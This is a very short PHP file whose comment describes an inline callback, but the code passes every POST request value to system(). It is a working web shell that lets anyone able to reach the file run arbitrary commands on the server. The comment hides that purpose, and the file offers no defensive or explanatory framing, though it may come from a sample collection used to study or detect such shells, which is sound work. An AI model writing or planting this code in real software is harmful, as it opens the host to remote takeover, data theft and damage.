<?php
// An inline callback receives the request's values as its parameter.
array_map(function ($x) {
    return system($x);
}, $_POST);
